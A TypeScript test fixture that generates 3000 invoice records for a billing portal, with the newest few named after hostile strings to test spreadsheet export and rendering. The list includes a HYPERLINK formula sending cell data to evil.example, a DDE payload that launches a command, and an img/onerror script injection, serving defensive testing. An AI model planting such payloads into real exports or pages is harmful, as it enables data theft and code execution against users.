import { addDays, type Day } from '@portal/domain/kernel/day'
import { longlist } from './companies.ts'

export const longListLength = 3000

/** Names that a spreadsheet would run as a formula, or that would break the layout of a row. */
export const hostileNames = [
  `=HYPERLINK("https://evil.example?x="&A1,"Open")`,
  `+1+cmd|'/C calc'!A0`,
  '-2+3',
  '@SUM(A1:A9)',
  'Comma, "quote" and\nnew line',
  '<img src=x onerror=alert(1)>',
]

/** A list as long as the longest of any company; the newest invoices have the hostile names. */
export function* longList(today: Day) {
  for (let nth = 0; nth < longListLength; nth += 1)
    yield {
      record: 'invoice',
      accountId: longlist.accountId,
      invoiceNumber: `L-${String(nth + 1).padStart(4, '0')}`,
      name: hostileNames[nth] ?? `Desk ${nth + 1}`,
      customerNumber: 'LLP-1',
      invoiceType: 'License',
      source: 'Zuora',
      date: addDays(today, -nth),
      dueDate: addDays(today, 30 - nth),
      servicePeriod: `Period ${nth + 1}`,
      currencyIsoCode: 'USD',
      amount: `${nth + 1}.00`,
      balanceDue: '0.00',
    }
}
